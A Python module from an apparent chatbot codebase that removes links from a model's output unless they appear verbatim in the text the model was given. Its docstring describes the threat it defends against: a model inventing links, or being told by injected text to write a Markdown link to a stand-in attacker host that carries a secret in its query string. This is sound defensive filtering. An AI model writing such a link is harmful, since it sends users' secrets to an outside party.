r"""Links in what a model said: only those stay that what it was given holds.

Owns: what counts as a link (an address with a scheme, a bare host or a mail address, of which chat programs make a link by
themselves), and taking it out. A model makes links up, or is told to by a text: `[your account](https://evil.example/?q=SECRET)`.

    held_links_only("See https://a.example, not https://b.example", ["https://a.example"])   # "See https://a.example, not "
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from bot import lazy

_TLDS = (
    "com net org info biz io me co kr 한국 jp cn ru uk de eu us tv to ly xyz top site online click link shop app dev page cloud club live "
    "pro one win vip work space store tech icu example onion"
)
_SCHEME = r"(?:[a-z][a-z0-9+.-]{1,31}:/{1,3}|(?:javascript|vbscript|data|mailto|tel|sms|tg|skype|xmpp|matrix|blob|intent):(?=\S))"
_TAIL = r"[^\s<>()\[\]\"'`]*+"
_HOST = rf"(?:[\w-]++\.(?=\w))++(?:{'|'.join(_TLDS.split())})(?![\w-])(?::\d{{1,5}})?(?:[/?#]{_TAIL})?"
_MAIL = r"[\w.+-]++@(?:[\w-]++\.(?=\w))++[a-z]{2,}"
_LINK = lazy.compile(rf"(?<!\w){_SCHEME}{_TAIL}|(?<![\w.@+-])(?:www\.{_TAIL}|{_HOST}|{_MAIL})", re.IGNORECASE)
_MARKED = lazy.compile(r"!?\[([^\[\]]*+)\]\(\s*+<?([^\s()<>]*+(?:\([^\s()<>]*+\)[^\s()<>]*+)*+)>?[^()\n]*+\)")
_NO_TARGET = lazy.compile(r"[^:/.&\\%#?]*")  # handlers[name](event) is code
_ENDS = ".,;:!?*_~"


def held_links_only(text: str, given: Iterable[str]) -> str:
    """Return `text` without the links that stand, letter for letter, in none of the texts `given`; a link's words stay."""
    held = {_same(link[0]) for one in given for link in _LINK.finditer(one)}
    parts: list[str] = []
    at = 0
    for found in _MARKED.finditer(text):
        parts.append(_without(text[at : found.start()], held))
        stays = found[0][0] != "!" and (_same(found[2]) in held or _NO_TARGET.fullmatch(found[2]))
        parts.append(found[0] if stays else _without(found[1], held))
        at = found.end()
    parts.append(_without(text[at:], held))
    return "".join(parts).strip()


def _without(text: str, held: set[str]) -> str:
    """Return `text` without links; what is left of Markdown's own, such as an address in entities, is none any more."""
    return _LINK.sub(lambda found: found[0] if _same(found[0]) in held else _ends(found[0]), text).replace("](", "] (")


def _same(link: str) -> str:
    """Return a link as it is compared, without the signs of the sentence behind it."""
    return link.rstrip(_ENDS)


def _ends(link: str) -> str:
    return link[len(link.rstrip(_ENDS)) :]
